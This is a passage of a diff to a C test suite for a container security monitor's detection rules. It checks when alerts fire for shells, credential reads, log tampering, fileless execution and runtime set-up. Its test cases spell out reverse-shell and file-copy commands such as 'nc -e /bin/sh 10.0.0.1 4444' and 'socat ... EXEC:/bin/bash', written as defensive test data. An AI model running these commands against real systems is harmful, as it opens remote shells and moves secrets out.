@@ -40,7 +40,16 @@ struct ev_spec {
 	const char *ip;      /* a sockaddr event when set */
 	int port;
 	bool host;           /* no container */
+	/* what the monitor adds from the process table and the kernel's flags */
+	const struct proc *proc; /* the calling process; NULL: unknown */
+	const char *exe;     /* the executed file; default: proc's, else as asked */
+	const char *path_arg; /* the path as spelled, when the kernel resolved another */
+	bool init;           /* phase init (the runtime's set-up) */
+	bool age_known;
+	int64_t age_s;       /* the container's age, when age_known */
 };
+
+#define AGE(s) .age_known = true, .age_s = (s)
 
 static const struct container web = {
 	.id = "3f4e5d6c7b8a99887766554433221100ffeeddccbbaa00112233445566778899",
@@ -81,6 +90,20 @@ static void ev_addr(struct cactus_event *e, const char *ip, int port)
 	e->family = AF_INET6;
 }
 
+/* The fields the monitor sets from the process table and the record's
+ * flags (src/monitor), as the test wants them. */
+static void view_apply(struct event_view *v, const struct ev_spec *s)
+{
+	v->proc = s->proc;
+	v->phase_init = s->init;
+	v->container_age_ns = s->age_known ? s->age_s * 1000000000 + 250000000 : -1;
+	v->path_arg = s->path_arg;
+	if (s->exe)
+		v->exe = s->exe;
+	else if (s->proc && s->proc->self.exe && s->proc->self.exe[0])
+		v->exe = s->proc->self.exe;
+}
+
 static struct built *build(const struct ev_spec *s)
 {
 	const struct cactus_syscall *sc = cactus_syscall_by_name(s->sc);
@@ -108,8 +131,107 @@ static struct built *build(const struct ev_spec *s)
 	if (s->ip)
 		ev_addr(e, s->ip, s->port);
 	event_view_init(&b->v, e, s->host ? &host_rec : &web, 0);
+	view_apply(&b->v, s);
 	return b;
 }
+
+/* ---- processes, as the process table gives them ---- */
+
+#define PI(c, x, pid, fl) { .comm = (c), .exe = (x), .host_pid = (pid), .flags = (fl) }
+#define ENTRY PROC_ENTRYPOINT
+#define EXECS PROC_EXEC_SESSION
+#define DASH "/usr/bin/dash"
+#define ENTRY_SH PI("sh", DASH, 1000, ENTRY)
+
+/* the container's entrypoint: a shell script, without and with a terminal
+ * (docker run -it IMAGE sh) */
+static const struct proc p_entry_sh = { .self = ENTRY_SH };
+static const struct proc p_entry_sh_tty = { .self = ENTRY_SH, .tty = true, .tty_name = "pts/0" };
+/* docker exec: the runtime exec'd the command; -it gives it a terminal */
+static const struct proc p_exec_cat = { .self = PI("cat", "/usr/bin/cat", 501, EXECS) };
+static const struct proc p_exec_sh = { .self = PI("sh", DASH, 500, EXECS) };
+static const struct proc p_exec_bash_tty = {
+	.self = PI("bash", "/usr/bin/bash", 500, EXECS), .tty = true, .tty_name = "pts/0" };
+static const struct proc p_exec_bb_sh_tty = {
+	.self = PI("sh", "/bin/busybox", 500, EXECS), .tty = true, .tty_name = "pts/0" };
+static const struct proc p_exec_python_tty = {
+	.self = PI("python3", "/usr/bin/python3.11", 500, EXECS), .tty = true, .tty_name = "pts/0" };
+/* bash started in the terminal of an exec session's shell */
+static const struct proc p_nested_bash_tty = {
+	.self = PI("bash", "/usr/bin/bash", 502, 0), .anc = { PI("sh", DASH, 500, EXECS) },
+	.n_anc = 1, .tty = true, .tty_name = "pts/0" };
+/* a shell on a pty that python opened (pty.spawn), no terminal before */
+static const struct proc p_pty_sh = {
+	.self = PI("sh", DASH, 700, 0),
+	.anc = { PI("python3", "/usr/bin/python3.11", 699, 0), PI("sh", DASH, 698, 0) },
+	.n_anc = 2, .tty = true, .tty_name = "pts/3" };
+/* docker run --init -it IMAGE sh: tini (the entrypoint) starts the shell */
+static const struct proc p_tini_sh_tty = {
+	.self = PI("sh", DASH, 1001, 0), .anc = { PI("tini", "/usr/bin/tini", 1000, ENTRY) },
+	.n_anc = 1, .tty = true, .tty_name = "pts/0" };
+/* shells started by programs */
+static const struct proc p_java_sh = {
+	.self = PI("sh", DASH, 800, 0), .anc = { PI("java", "/opt/java/bin/java", 1000, ENTRY) },
+	.n_anc = 1 };
+static const struct proc p_java2_sh = {
+	.self = PI("sh", DASH, 800, 0),
+	.anc = { PI("java", "/opt/java/bin/java", 900, 0), PI("tini", "/usr/bin/tini", 1000, ENTRY) },
+	.n_anc = 2 };
+static const struct proc p_java_bb = {
+	.self = PI("sh", "/bin/busybox", 800, 0),
+	.anc = { PI("java", "/opt/java/bin/java", 900, 0) }, .n_anc = 1 };
+static const struct proc p_java_id = {
+	.self = PI("id", "/usr/bin/id", 800, 0), .anc = { PI("java", "/opt/java/bin/java", 900, 0) },
+	.n_anc = 1 };
+static const struct proc p_script_sh = {
+	.self = PI("sh", DASH, 801, 0), .anc = { ENTRY_SH }, .n_anc = 1 };
+static const struct proc p_busybox_sh = {
+	.self = PI("sh", "/bin/busybox", 802, 0), .anc = { PI("httpd", "/bin/busybox", 1000, 0) },
+	.n_anc = 1 };
+static const struct proc p_cron_sh = {
+	.self = PI("sh", DASH, 803, 0), .anc = { PI("cron", "/usr/sbin/cron", 1000, ENTRY) },
+	.n_anc = 1 };
+static const struct proc p_dpkg_sh = {
+	.self = PI("sh", DASH, 804, 0),
+	.anc = { PI("dpkg", "/usr/bin/dpkg", 805, 0), PI("apt-get", "/usr/bin/apt-get", 806, 0) },
+	.n_anc = 2 };
+static const struct proc p_exec_child_sh = {
+	.self = PI("sh", DASH, 807, 0), .anc = { PI("python3", "/usr/bin/python3.11", 501, EXECS) },
+	.n_anc = 1 };
+/* programs */
+static const struct proc p_dpkg = {
+	.self = PI("dpkg", "/usr/bin/dpkg", 805, 0), .anc = { PI("apt-get", "/usr/bin/apt-get", 806, 0) },
+	.n_anc = 1 };
+static const struct proc p_pip = {
+	.self = PI("pip", "/usr/bin/python3.11", 808, 0), .anc = { ENTRY_SH }, .n_anc = 1 };
+static const struct proc p_cat = {
+	.self = PI("cat", "/usr/bin/cat", 904, 0), .anc = { ENTRY_SH }, .n_anc = 1 };
+static const struct proc p_logrotate = { .self = PI("logrotate", "/usr/sbin/logrotate", 903, 0) };
+static const struct proc p_sshd = { .self = PI("sshd", "/usr/sbin/sshd", 905, 0) };
+static const struct proc p_sudo = { .self = PI("sudo", "/usr/bin/sudo", 906, 0) };
+static const struct proc p_nc = {
+	.self = PI("nc", "/usr/bin/nc.openbsd", 907, 0), .anc = { ENTRY_SH }, .n_anc = 1 };
+static const struct proc p_socat = { .self = PI("socat", "/usr/bin/socat", 908, 0) };
+static const struct proc p_bb_nc = {
+	.self = PI("nc", "/bin/busybox", 909, 0), .anc = { ENTRY_SH }, .n_anc = 1 };
+static const struct proc p_nginx = { .self = PI("nginx", "/usr/sbin/nginx", 1000, ENTRY) };
+static const struct proc p_bb_httpd = {
+	.self = PI("httpd", "/bin/busybox", 1001, 0), .anc = { ENTRY_SH }, .n_anc = 1 };
+static const struct proc p_python_srv = {
+	.self = PI("python3", "/usr/bin/python3.11", 1002, 0), .anc = { ENTRY_SH }, .n_anc = 1 };
+static const struct proc p_bb_wget = {
+	.self = PI("wget", "/bin/busybox", 1003, 0), .anc = { ENTRY_SH }, .n_anc = 1 };
+static const struct proc p_bash = {
+	.self = PI("bash", "/usr/bin/bash", 910, 0), .anc = { ENTRY_SH }, .n_anc = 1 };
+/* names that lie: comm is whatever the process set (prctl, /proc/self/comm) */
+static const struct proc p_bash_named_curl = { .self = PI("curl", "/usr/bin/bash", 911, 0) };
+static const struct proc p_curl_named_bash = { .self = PI("bash", "/usr/bin/curl", 912, 0) };
+static const struct proc p_named_runc = {
+	.self = PI("runc:[2:INIT]", "/tmp/evil", 913, 0), .anc = { ENTRY_SH }, .n_anc = 1 };
+static const struct proc p_named_logrotate = { .self = PI("logrotate", "/bin/busybox", 914, 0) };
+static const struct proc p_named_sshd = { .self = PI("sshd", "/usr/bin/cat", 915, 0) };
+static const struct proc p_named_sudo = { .self = PI("sudo", "/usr/bin/cat", 916, 0) };
+static const struct proc p_python_named_nc = { .self = PI("nc", "/usr/bin/python3.11", 917, 0) };
 
 /* ---- the default rule set ---- */
 
@@ -124,16 +246,87 @@ struct rule_case {
 #define WR (O_WRONLY | O_CREAT | O_TRUNC)
 
 static const struct rule_case cases[] = {
-	FIRE("shell_in_container", "execve", .path = "/bin/sh", .extra = "sh -c id"),
-	FIRE("shell_in_container", "execve", .path = "/usr/bin/bash", .extra = "bash"),
-	QUIET("shell_in_container", "execve", .path = "/bin/sh", .extra = "sh -c id", .host = true),
-	QUIET("shell_in_container", "execve", .path = "/usr/bin/python3", .extra = "python3 -c 1"),
+	/* docker exec -it bash; a pty python opened for a shell; busybox's sh */
+	FIRE("terminal_shell_in_container", "execve", .path = "/usr/bin/bash", .extra = "bash",
+	     .proc = &p_exec_bash_tty),
+	FIRE("terminal_shell_in_container", "execve", .path = "/bin/sh", .extra = "sh -i",
+	     .proc = &p_pty_sh),
+	FIRE("terminal_shell_in_container", "execve", .path = "/bin/sh", .extra = "sh",
+	     .proc = &p_exec_bb_sh_tty),
+	/* renamed: comm says python, the file executed is bash */
+	FIRE("terminal_shell_in_container", "execve", .path = "/usr/local/bin/py",
+	     .exe = "/usr/bin/bash", .extra = "py", .comm = "python3", .proc = &p_exec_bash_tty),
+	/* the entrypoint (docker run -it IMAGE sh), tini starting it at start-up */
+	QUIET("terminal_shell_in_container", "execve", .path = "/bin/sh", .extra = "sh",
+	      .proc = &p_entry_sh_tty),
+	QUIET("terminal_shell_in_container", "execve", .path = "/bin/sh", .extra = "sh",
+	      .proc = &p_tini_sh_tty, AGE(1)),
+	/* no terminal: docker exec c sh -c ..., the entrypoint script */
+	QUIET("terminal_shell_in_container", "execve", .path = "/bin/sh", .extra = "sh -c id",
+	      .proc = &p_exec_sh),
+	QUIET("terminal_shell_in_container", "execve", .path = "/bin/sh", .extra = "sh /run.sh",
+	      .proc = &p_entry_sh),
+	/* a shell from the session's shell: the session already alerted */
+	QUIET("terminal_shell_in_container", "execve", .path = "/usr/bin/bash", .extra = "bash",
+	      .proc = &p_nested_bash_tty),
+	/* not a shell; an unknown process (no tty known); the host */
+	QUIET("terminal_shell_in_container", "execve", .path = "/usr/bin/python3",
+	      .extra = "python3", .proc = &p_exec_python_tty),
+	QUIET("terminal_shell_in_container", "execve", .path = "/bin/sh", .extra = "sh -c id"),
+	QUIET("terminal_shell_in_container", "execve", .path = "/bin/sh", .extra = "sh",
+	      .proc = &p_exec_bash_tty, .host = true),
+	/* a server starting a shell, after start-up; a java that is not the
+	 * entrypoint, even at start-up; busybox's sh by argv[0], as "busybox
+	 * sh", or as a renamed copy of busybox */
+	FIRE("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh -c id",
+	     .proc = &p_java_sh, AGE(300)),
+	FIRE("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh -c id",
+	     .proc = &p_java2_sh, AGE(5)),
+	FIRE("shell_spawned_by_program", "execve", .path = "/bin/busybox", .extra = "sh -c id",
+	     .proc = &p_java_bb),
+	FIRE("shell_spawned_by_program", "execve", .path = "/bin/busybox",
+	     .extra = "busybox sh -c id", .proc = &p_java_bb),
+	FIRE("shell_spawned_by_program", "execve", .path = "/usr/local/bin/bb",
+	     .exe = "/usr/local/bin/bb", .extra = "sh -c id", .proc = &p_java_bb),
+	/* the entrypoint's start-up; scripts; busybox parents; cron; a
+	 * maintainer script under dpkg; an exec session or its command; the
+	 * entrypoint shell; an unknown parent; not a shell */
+	QUIET("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh -c id",
+	      .proc = &p_java_sh, AGE(5)),
+	QUIET("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh x.sh",
+	      .proc = &p_script_sh, AGE(300)),
+	QUIET("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh -c id",
+	      .proc = &p_busybox_sh, AGE(300)),
+	QUIET("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh -c job",
+	      .proc = &p_cron_sh, AGE(300)),
+	QUIET("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh postinst",
+	      .proc = &p_dpkg_sh, AGE(300)),
+	QUIET("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh -c make",
+	      .proc = &p_exec_child_sh, AGE(300)),
+	QUIET("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh",
+	      .proc = &p_exec_sh, AGE(300)),
+	QUIET("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh /run.sh",
+	      .proc = &p_entry_sh, AGE(0)),
+	QUIET("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh -c id",
+	      AGE(300)),
+	QUIET("shell_spawned_by_program", "execve", .path = "/usr/bin/id", .extra = "id",
+	      .proc = &p_java_id, AGE(300)),
 	FIRE("package_manager_in_container", "execve", .path = "/usr/bin/apt-get",
 	     .extra = "apt-get install nmap"),
 	FIRE("package_manager_in_container", "execve", .path = "/sbin/apk",
 	     .extra = "apk add curl"),
+	/* pip is a script: the file executed is python, the name asked pip */
+	FIRE("package_manager_in_container", "execve", .path = "/usr/bin/pip",
+	     .extra = "pip install requests", .proc = &p_pip),
 	QUIET("package_manager_in_container", "execve", .path = "/usr/bin/dpkg-query",
 	      .extra = "dpkg-query -l"),
+	/* dpkg run by apt-get: apt-get alerted */
+	QUIET("package_manager_in_container", "execve", .path = "/usr/bin/dpkg",
+	      .extra = "dpkg --unpack x.deb", .proc = &p_dpkg),
+	FIRE("remote_file_copy_tool", "execve", .path = "/usr/bin/rsync",
+	     .extra = "rsync -a /data backup:/x"),
+	FIRE("remote_file_copy_tool", "execve", .path = "/usr/bin/scp", .extra = "scp /etc/passwd h:"),
+	QUIET("remote_file_copy_tool", "execve", .path = "/bin/cp", .extra = "cp /data /backup"),
 	FIRE("drift_exec_from_scratch_dir", "execve", .path = "/tmp/payload", .extra = "payload"),
 	FIRE("drift_exec_from_scratch_dir", "execve", .path = "/dev/shm/x", .extra = "x"),
 	QUIET("drift_exec_from_scratch_dir", "execve", .path = "/usr/bin/ls",
@@ -171,13 +364,27 @@ static const struct rule_case cases[] = {
 	FIRE("read_credential_files", "open", .path = "/etc/sudoers", .a = { 0, O_RDONLY }),
 	QUIET("read_credential_files", "openat", .path = "/etc/passwd", .a = { 0, 0, O_RDONLY }),
 	QUIET("read_credential_files", "openat", .path = "/etc/shadow", .host = true),
+	QUIET("read_credential_files", "openat", .path = "/etc/sudoers", .proc = &p_sudo),
+	FIRE("read_credential_files", "openat", .path = "/etc/sudoers", .comm = "sudo",
+	     .proc = &p_named_sudo),
 	FIRE("read_sudoers_dir", "openat", .path = "/etc/sudoers.d/admins"),
 	QUIET("read_sudoers_dir", "openat", .path = "/etc/sudo.conf"),
+	QUIET("read_sudoers_dir", "openat", .path = "/etc/sudoers.d/admins", .proc = &p_sudo),
 	FIRE("read_ssh_keys", "openat", .path = "/root/.ssh/id_rsa"),
 	FIRE("read_ssh_keys", "openat", .path = "/home/bob/.ssh/id_ed25519"),
 	FIRE("read_ssh_keys", "openat", .path = "/etc/ssh/ssh_host_rsa_key"),
 	QUIET("read_ssh_keys", "openat", .path = "/root/.ssh/id_rsa.pub"),
-	QUIET("read_ssh_keys", "openat", .path = "/etc/ssh/ssh_host_rsa_key", .comm = "sshd"),
+	QUIET("read_ssh_keys", "openat", .path = "/etc/ssh/ssh_host_rsa_key", .proc = &p_sshd),
+	FIRE("read_ssh_keys", "openat", .path = "/etc/ssh/ssh_host_rsa_key", .comm = "sshd",
+	     .proc = &p_named_sshd),
+	FIRE("symlink_to_sensitive_file", "symlink", .path = "/tmp/s", .extra = "/etc/shadow"),
+	FIRE("symlink_to_sensitive_file", "symlinkat", .path = "/var/www/r", .extra = "/"),
+	QUIET("symlink_to_sensitive_file", "symlink", .path = "/tmp/s", .extra = "/etc/hostname"),
+	QUIET("symlink_to_sensitive_file", "symlinkat", .path = "/tmp/s",
+	      .extra = "/etc/shadowsocks.json"),
+	FIRE("hardlink_to_sensitive_file", "link", .path = "/etc/shadow", .extra = "/tmp/h"),
+	FIRE("hardlink_to_sensitive_file", "linkat", .path = "/etc/gshadow", .extra = "/tmp/g"),
+	QUIET("hardlink_to_sensitive_file", "link", .path = "/etc/passwd", .extra = "/tmp/p"),
 	FIRE("read_proc_mem_or_environ", "openat", .path = "/proc/1/environ"),
 	FIRE("read_proc_mem_or_environ", "openat", .path = "/proc/4242/mem"),
 	QUIET("read_proc_mem_or_environ", "openat", .path = "/proc/self/environ"),
@@ -190,22 +397,40 @@ static const struct rule_case cases[] = {
 	QUIET("chmod_setuid", "mkdir", .path = "/tmp/d", .a = { 0, 04755 }),
 	FIRE("delete_logs", "unlink", .path = "/var/log/auth.log"),
 	FIRE("delete_logs", "truncate", .path = "/var/log/nginx/access.log"),
-	QUIET("delete_logs", "unlink", .path = "/var/log/auth.log.1", .comm = "logrotate"),
+	QUIET("delete_logs", "unlink", .path = "/var/log/auth.log.1", .proc = &p_logrotate),
+	/* comm logrotate, written to /proc/self/comm: no pass */
+	FIRE("delete_logs", "unlink", .path = "/var/log/auth.log.1", .comm = "logrotate",
+	     .proc = &p_named_logrotate),
 	QUIET("delete_logs", "unlink", .path = "/var/lib/app/x.log"),
 	FIRE("truncate_logs_on_open", "openat", .path = "/var/log/syslog", .a = { 0, 0, WR }),
 	QUIET("truncate_logs_on_open", "openat", .path = "/var/log/syslog",
 	      .a = { 0, 0, O_WRONLY | O_APPEND }),
+	QUIET("truncate_logs_on_open", "openat", .path = "/var/log/syslog", .a = { 0, 0, WR },
+	      .proc = &p_logrotate),
+	FIRE("truncate_logs_on_open", "openat", .path = "/var/log/syslog", .a = { 0, 0, WR },
+	     .comm = "logrotate", .proc = &p_named_logrotate),
 	FIRE("device_node_created", "mknodat", .path = "/dev/sda", .a = { [2] = 060660 }),
 	FIRE("device_node_created", "mknod", .path = "/dev/zero2", .a = { [1] = 020666 }),
 	QUIET("device_node_created", "mknodat", .path = "/dev/sda", .host = true,
 	      .a = { [2] = 060660 }),
 	QUIET("device_node_created", "mknodat", .path = "/tmp/fifo", .a = { [2] = 010644 }),
 	QUIET("device_node_created", "mknod", .path = "/tmp/f", .a = { [1] = 0100644 }),
+	/* runc creating /dev/null while it sets the container up */
+	QUIET("device_node_created", "mknodat", .path = "/dev/null", .a = { [2] = 020666 },
+	      .comm = "runc:[2:INIT]", .init = true),
 	FIRE("memfd_create", "memfd_create"),
 	QUIET("memfd_create", "memfd_create", .host = true),
 	FIRE("fileless_exec_proc_fd", "execve", .path = "/proc/self/fd/3", .extra = "x"),
 	FIRE("fileless_exec_proc_fd", "execve", .path = "/dev/fd/5", .extra = "x"),
+	/* the kernel resolved the fd to its file: path_arg is the spelling */
+	FIRE("fileless_exec_proc_fd", "execve", .path = "/bin/busybox", .exe = "/bin/busybox",
+	     .path_arg = "/proc/self/fd/3", .extra = "true"),
 	QUIET("fileless_exec_proc_fd", "execve", .path = "/usr/sbin/fdisk", .extra = "fdisk -l"),
+	FIRE("fileless_exec_memfd", "execve", .path = "/proc/self/fd/4",
+	     .exe = "/memfd:payload (deleted)", .extra = "x"),
+	FIRE("fileless_exec_memfd", "execve", .path = "/usr/local/bin/tool",
+	     .exe = "/memfd:x (deleted)", .extra = "tool"),
+	QUIET("fileless_exec_memfd", "execve", .path = "/usr/bin/memfd-tool", .extra = "memfd-tool"),
 	FIRE("fileless_execveat_fd", "execveat", .a = { 3, 0, 0, 0, 0x1000 }),
 	QUIET("fileless_execveat_fd", "execveat", .path = "/usr/bin/ls", .extra = "ls", .a = { 3 }),
 	FIRE("ptrace_attach", "ptrace", .a = { 16, 99 }),
@@ -219,8 +444,11 @@ static const struct rule_case cases[] = {
 	FIRE("bpf_in_container", "bpf", .a = { 5 }),
 	QUIET("bpf_in_container", "bpf", .a = { 5 }, .host = true),
 	FIRE("mount_in_container", "mount", .path = "/mnt", .extra = "tmpfs"),
-	QUIET("mount_in_container", "mount", .path = "/mnt", .extra = "tmpfs",
-	      .comm = "runc:[2:INIT]"),
+	QUIET("mount_in_container", "mount", .path = "/proc", .extra = "proc",
+	      .comm = "runc:[2:INIT]", .init = true),
+	/* named runc, but the workload: no pass */
+	FIRE("mount_in_container", "mount", .path = "/mnt", .extra = "tmpfs",
+	     .comm = "runc:[2:INIT]", .proc = &p_named_runc),
 	QUIET("mount_in_container", "umount2", .path = "/mnt"),
 	FIRE("sensitive_mount", "mount", .path = "/mnt/sock", .extra = "/var/run/docker.sock"),
 	FIRE("sensitive_mount", "mount", .path = "/host", .extra = "/dev/sda1"),
@@ -228,14 +456,19 @@ static const struct rule_case cases[] = {
 	FIRE("sensitive_mount", "mount", .path = "/mnt", .extra = "/proc/sys/kernel"),
 	QUIET("sensitive_mount", "mount", .path = "/mnt", .extra = "tmpfs"),
 	QUIET("sensitive_mount", "mount", .path = "/mnt", .extra = "/srv/data"),
+	QUIET("sensitive_mount", "mount", .path = "/sys", .extra = "/sys", .init = true),
 	FIRE("mount_on_proc_sys", "mount", .path = "/proc/sys", .extra = "proc"),
 	QUIET("mount_on_proc_sys", "mount", .path = "/proc/system-like", .extra = "proc"),
+	QUIET("mount_on_proc_sys", "mount", .path = "/proc/sys", .extra = "/proc/sys", .init = true),
 	FIRE("namespace_change", "unshare", .a = { 0x20000 }),
 	FIRE("namespace_change", "setns", .a = { 3 }),
-	QUIET("namespace_change", "setns", .a = { 3 }, .comm = "runc:[2:INIT]"),
+	QUIET("namespace_change", "setns", .a = { 3 }, .comm = "runc:[2:INIT]", .init = true),
+	FIRE("namespace_change", "setns", .a = { 3 }, .comm = "runc", .proc = &p_named_runc),
 	FIRE("root_change", "chroot", .path = "/host"),
 	FIRE("root_change", "pivot_root", .path = "/newroot", .extra = "/newroot/old"),
-	QUIET("root_change", "chroot", .path = "/host", .comm = "runc"),
+	QUIET("root_change", "pivot_root", .path = "/var/lib/docker/overlay2/x/merged",
+	      .extra = "/var/lib/docker/overlay2/x/merged", .comm = "runc:[2:INIT]", .init = true),
+	FIRE("root_change", "chroot", .path = "/host", .comm = "runc", .proc = &p_named_runc),
 	FIRE("setuid_root", "setuid", .uid = 1000, .a = { 0 }),
 	FIRE("setuid_root", "setresgid", .uid = 33, .a = { 0, 0, 0 }),
 	QUIET("setuid_root", "setuid", .uid = 0, .a = { 0 }),
@@ -243,9 +476,11 @@ static const struct rule_case cases[] = {
 	FIRE("setuid_root_effective", "setresuid", .uid = 1000, .a = { -1ULL, 0, -1ULL }),
 	QUIET("setuid_root_effective", "setresuid", .uid = 1000, .a = { -1ULL, 1000, -1ULL }),
 	FIRE("capset_in_container", "capset"),
-	QUIET("capset_in_container", "capset", .comm = "runc:[2:INIT]"),
+	QUIET("capset_in_container", "capset", .comm = "runc:[2:INIT]", .init = true),
+	FIRE("capset_in_container", "capset", .comm = "runc:[2:INIT]", .proc = &p_named_runc),
 	FIRE("sethostname_in_container", "sethostname"),
 	QUIET("sethostname_in_container", "sethostname", .host = true),
+	QUIET("sethostname_in_container", "sethostname", .comm = "runc:[2:INIT]", .init = true),
 	FIRE("outbound_connect_unexpected_port", "connect", .ip = "203.0.113.5", .port = 6667),
 	FIRE("outbound_connect_unexpected_port", "connect", .ip = "2001:db8::1", .port = 22),
 	QUIET("outbound_connect_unexpected_port", "connect", .ip = "203.0.113.5", .port = 443),
@@ -258,16 +493,32 @@ static const struct rule_case cases[] = {
 	FIRE("crypto_miner_port_connect", "connect", .ip = "198.51.100.7", .port = 3333),
 	FIRE("crypto_miner_port_connect", "connect", .ip = "198.51.100.7", .port = 45700),
 	QUIET("crypto_miner_port_connect", "connect", .ip = "198.51.100.7", .port = 3334),
-	FIRE("listening_socket", "listen", .a = { 3, 128 }),
-	QUIET("listening_socket", "listen", .a = { 3, 128 }, .host = true),
-	FIRE("bind_inet_port", "bind", .ip = "0.0.0.0", .port = 8080),
-	QUIET("bind_inet_port", "bind", .ip = "0.0.0.0", .port = 0),
-	FIRE("reverse_shell_connect", "connect", .comm = "bash", .ip = "10.0.0.1", .port = 4444),
-	QUIET("reverse_shell_connect", "connect", .comm = "curl", .ip = "10.0.0.1", .port = 4444),
+	FIRE("bind_shell_listener", "bind", .ip = "0.0.0.0", .port = 4444, .proc = &p_nc),
+	FIRE("bind_shell_listener", "bind", .ip = "::", .port = 31337, .proc = &p_socat),
+	/* netcat on loopback, an ordinary server, a python named nc, an
+	 * unknown process, busybox's nc (not told from its httpd) */
+	QUIET("bind_shell_listener", "bind", .ip = "127.0.0.1", .port = 4444, .proc = &p_nc),
+	QUIET("bind_shell_listener", "bind", .ip = "0.0.0.0", .port = 80, .proc = &p_nginx),
+	QUIET("bind_shell_listener", "bind", .ip = "0.0.0.0", .port = 4444, .comm = "nc",
+	      .proc = &p_python_named_nc),
+	QUIET("bind_shell_listener", "bind", .ip = "0.0.0.0", .port = 4444, .comm = "nc"),
+	QUIET("bind_shell_listener", "bind", .ip = "0.0.0.0", .port = 4444, .proc = &p_bb_nc),
+	/* bash renamed curl is still bash; curl renamed bash is not */
+	FIRE("reverse_shell_connect", "connect", .comm = "curl", .ip = "10.0.0.1", .port = 4444,
+	     .proc = &p_bash_named_curl),
+	FIRE("reverse_shell_connect", "connect", .ip = "2001:db8::1", .port = 443,
+	     .proc = &p_bash),
+	QUIET("reverse_shell_connect", "connect", .comm = "bash", .ip = "10.0.0.1", .port = 4444,
+	      .proc = &p_curl_named_bash),
+	QUIET("reverse_shell_connect", "connect", .ip = "127.0.0.1", .port = 8080,
+	      .proc = &p_bash),
 	FIRE("netcat_remote_shell", "execve", .path = "/usr/bin/nc",
 	     .extra = "nc -e /bin/sh 10.0.0.1 4444"),
 	FIRE("netcat_remote_shell", "execve", .path = "/usr/bin/ncat",
 	     .extra = "ncat 10.0.0.1 4444 --sh-exec sh"),
+	/* busybox's nc: the file executed is busybox */
+	FIRE("netcat_remote_shell", "execve", .path = "/usr/bin/nc", .exe = "/bin/busybox",
+	     .extra = "nc -e /bin/sh 10.0.0.1 4444", .proc = &p_bb_nc),
 	QUIET("netcat_remote_shell", "execve", .path = "/usr/bin/nc", .extra = "nc -z db 5432"),
 	FIRE("socat_remote_shell", "execve", .path = "/usr/bin/socat",
 	     .extra = "socat TCP:10.0.0.1:4444 EXEC:/bin/bash"),
@@ -360,6 +611,7 @@ static void candidates_same_alerts(const struct rule_set *rs, size_t *pruned_out
 
 			b->e.syscall_nr = sc->nr;
 			event_view_init(&b->v, &b->e, cases[i].ev.host ? &host_rec : &web, 0);
+			view_apply(&b->v, &cases[i].ev);
 			cand = rules__candidate_ids(rs, sc->nr, &n);
 			cand16 = rules__candidates(rs, sc->nr, &n16);
 			assert_non_null(cand);
@@ -516,22 +768,125 @@ static void test_default_kernel_specs(void **state)
 static void test_render(void **state)
 {
 	const struct rule_set *rs = *state;
-	struct ev_spec sp = { .sc = "execve", .path = "/bin/sh", .extra = "sh -c id" };
+	struct ev_spec sp = { .sc = "execve", .path = "/bin/bash", .extra = "bash -i",
+		.proc = &p_exec_bash_tty };
 	struct ev_spec op = { .sc = "openat", .path = "/etc/cron.d/job",
-		.a = { 0, 0, O_WRONLY | O_CREAT } };
+		.a = { 0, 0, O_WRONLY | O_CREAT }, .proc = &p_cat };
+	struct ev_spec jp = { .sc = "execve", .path = "/bin/sh", .extra = "sh -c id",
+		.proc = &p_java_sh, AGE(300) };
 	struct built *b = build(&sp);
 	char buf[256];
 
-	rule_render(find(rs, "shell_in_container"), &b->v, buf, sizeof(buf));
-	assert_string_equal(buf, "shell /bin/sh started in web by app (pid 7, argv sh -c id)");
-	rule_render(find(rs, "shell_in_container"), &b->v, buf, 12);
-	assert_string_equal(buf, "shell /bin/"); /* truncated, NUL terminated */
+	rule_render(find(rs, "terminal_shell_in_container"), &b->v, buf, sizeof(buf));
+	assert_string_equal(buf, "terminal shell /usr/bin/bash on pts/0 in web (argv bash -i)");
+	rule_render(find(rs, "terminal_shell_in_container"), &b->v, buf, 12);
+	assert_string_equal(buf, "terminal sh"); /* truncated, NUL terminated */
 	free(b);
 	b = build(&op);
 	rule_render(find(rs, "write_below_etc"), &b->v, buf, sizeof(buf));
 	assert_string_equal(buf,
-		"app opened /etc/cron.d/job for writing (O_WRONLY|O_CREAT) in web");
+		"/usr/bin/cat opened /etc/cron.d/job for writing (O_WRONLY|O_CREAT) in web");
 	free(b);
+	b = build(&jp);
+	rule_render(find(rs, "shell_spawned_by_program"), &b->v, buf, sizeof(buf));
+	assert_string_equal(buf, "shell /usr/bin/dash started in web by /opt/java/bin/java "
+				 "(java, pid 1000; argv sh -c id)");
+	free(b);
+}
+
+/* Normal container life, as the monitor sees it with the process table:
+ * no default rule fires on any of it. */
+static const struct ev_spec normal_life[] = {
+	/* the runtime's set-up (runc init): device nodes, mounts, pivot_root,
+	 * hostname, capabilities, namespaces; comm runc:[2:INIT] */
+	{ .sc = "mknodat", .path = "/dev/null", .a = { [2] = 020666 }, .init = true,
+	  .comm = "runc:[2:INIT]" },
+	{ .sc = "mknodat", .path = "/dev/zero", .a = { [2] = 020666 }, .init = true,
+	  .comm = "runc:[2:INIT]" },
+	{ .sc = "mount", .path = "/proc", .extra = "proc", .init = true, .comm = "runc:[2:INIT]" },
+	{ .sc = "mount", .path = "/sys", .extra = "sysfs", .init = true, .comm = "runc:[2:INIT]" },
+	{ .sc = "mount", .path = "/proc/sys", .extra = "/proc/sys", .init = true,
+	  .comm = "runc:[2:INIT]" },
+	{ .sc = "mount", .path = "/etc/hosts", .extra = "/var/lib/docker/containers/x/hosts",
+	  .init = true, .comm = "runc:[2:INIT]" },
+	{ .sc = "pivot_root", .path = "/var/lib/docker/overlay2/x/merged",
+	  .extra = "/var/lib/docker/overlay2/x/merged", .init = true, .comm = "runc:[2:INIT]" },
+	{ .sc = "sethostname", .init = true, .comm = "runc:[2:INIT]" },
+	{ .sc = "capset", .init = true, .comm = "runc:[2:INIT]" },
